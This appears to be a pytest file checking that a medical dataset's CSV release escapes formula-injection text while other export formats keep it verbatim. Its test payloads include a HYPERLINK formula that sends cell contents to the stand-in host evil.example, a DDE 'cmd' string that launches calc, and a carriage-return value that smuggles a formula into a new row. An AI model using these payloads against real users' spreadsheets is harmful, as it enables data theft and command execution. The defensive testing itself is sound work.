"""Release CSVs are safe to open in a spreadsheet; every other format keeps the text as is."""

from __future__ import annotations

import csv
import io
import json

import pytest

from curation.release.formats import FORMULA_PREFIXES, SpreadsheetSafeWriter, spreadsheet_safe
from curation.services import releases as release_service

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# One caption per dangerous first character (OWASP), each also used as a question and answer.
PAYLOADS = [
    HYPERLINK,
    "+1+2 plaques",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1) lesions",
    "\tTabbed caption",
    "\rCarriage-return caption",
]
# A CR or LF inside a cell must not start a new row whose first cell escapes the check.
# (No quote and no LF in it: either would have made the csv module quote the cell anyway.)
SMUGGLED = "Plaque\r=SUM(1+1)*cmd|' /C calc'!A0"


# -- the escaping function ----------------------------------------------------------------------
@pytest.mark.parametrize("text", PAYLOADS)
def test_a_text_that_could_start_a_formula_gets_one_leading_quote(text):
    assert spreadsheet_safe(text) == "'" + text


def test_the_list_of_prefixes_is_owasps():
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize(
    "value", ["Plaque psoriasis", "a = b", "1-2 mm", "", "'already quoted", " =leading space"]
)
def test_other_text_is_unchanged(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", [-5, 0, 42, 1.5, -0.25, None])
def test_numbers_are_not_text_and_stay_numbers(value):
    assert spreadsheet_safe(value) is value


def test_the_writer_escapes_text_cells_and_leaves_numbers():
    buf = io.StringIO()
    SpreadsheetSafeWriter(buf).writerow(["=1+1", -5, "-5", 40, "plain"])
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == ["'=1+1", "-5", "'-5", "40", "plain"]


def test_a_line_break_inside_a_cell_does_not_start_a_row():
    buf = io.StringIO()
    writer = SpreadsheetSafeWriter(buf)
    writer.writerow([SMUGGLED, 1])
    writer.writerow(["next", 2])
    assert list(csv.reader(io.StringIO(buf.getvalue(), newline=""))) == [
        [SMUGGLED, "1"],
        ["next", "2"],
    ]


# -- end to end through a release build ---------------------------------------------------------
@pytest.fixture
def hostile(world, cut):
    """A release whose shipped captions, diagnoses, questions and answers start like formulas."""
    from curation.models import Pair, VQAItem

    shipped = [p for p in world.pairs if p.status == "accepted"]
    for pair, text in zip(shipped, [*PAYLOADS, SMUGGLED], strict=False):
        Pair.objects.filter(pk=pair.pk).update(text=text, diagnosis=text)
        VQAItem.objects.filter(pair=pair, status="accepted").update(question=text, answer=text)
    release = cut()
    assert release.status == "ready", release.error
    return release_service.ready_root(release) / "release"


def _csv(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _jsonl(path):
    return [json.loads(line) for line in path.read_text("utf-8").splitlines()]


def test_release_csvs_escape_every_formula_prefix(hostile):
    captions = _csv(hostile / "formats/mmskin/caption.csv")
    pairs = _jsonl(hostile / "pairs.jsonl")
    assert len(captions) == len(pairs)  # no caption broke a row in two
    by_caption = {}
    for row, pair in zip(captions, pairs, strict=True):
        assert row["image"] == pair["image"]
        by_caption.setdefault(pair["caption"], row)
    for text in PAYLOADS:
        row = by_caption[text]  # the canonical file holds the caption as reviewed
        assert row["caption"] == "'" + text
        assert not row["cleaned_caption"].startswith(FORMULA_PREFIXES)
        assert row["age"].isdigit()  # a number, written as one
    assert by_caption[SMUGGLED]["caption"] == SMUGGLED
    # Nothing else in the CSV can start a formula either.
    vqa = [
        row for split in ("train", "val", "test")
        for row in _csv(hostile / f"formats/mmskin/VQA_{split}.csv")
    ]  # fmt: skip
    classes = [
        row for split in ("train", "val", "test")
        for row in _csv(hostile / f"formats/mmskin/classification_{split}.csv")
    ]  # fmt: skip
    for rows in (captions, vqa, classes):
        for row in rows:
            assert not any(v.startswith(FORMULA_PREFIXES) for v in row.values()), row
    escaped = {(r["question"], r["answer"]) for r in vqa}
    assert {("'" + t, "'" + t) for t in PAYLOADS} <= escaped


def test_json_jsonl_and_parquet_keep_the_text_unchanged(hostile):
    import pyarrow.parquet as pq

    captions = {p["caption"] for p in _jsonl(hostile / "pairs.jsonl")}
    answers = {q["answer"] for q in _jsonl(hostile / "vqa.jsonl")}
    assert set(PAYLOADS) <= captions and set(PAYLOADS) <= answers

    llava, sharegpt = set(), set()
    for split in ("train", "val", "test"):
        for name, seen in (("llava/caption", llava), ("sharegpt/caption", sharegpt)):
            for item in json.loads((hostile / f"formats/{name}_{split}.json").read_text()):
                seen.add(item["conversations"][1]["value"])
        for item in json.loads((hostile / f"formats/llava/vqa_{split}.json").read_text()):
            llava.add(item["conversations"][1]["value"])
    assert set(PAYLOADS) <= llava and set(PAYLOADS) <= sharegpt

    parquet = set()
    for path in (hostile / "formats/hf/data").glob("*.parquet"):
        table = pq.read_table(path, columns=["caption", "vqa"]).to_pylist()
        parquet |= {row["caption"] for row in table}
        parquet |= {q["answer"] for row in table for q in row["vqa"]}
    assert set(PAYLOADS) <= parquet
    assert not any(text.startswith("'") for text in captions | llava | sharegpt | parquet)


def test_the_dataset_card_says_how_csv_cells_are_escaped(hostile):
    card = (hostile / "DATASET_CARD.md").read_text("utf-8")
    assert "leading `'`" in card and "exactly as reviewed" in card
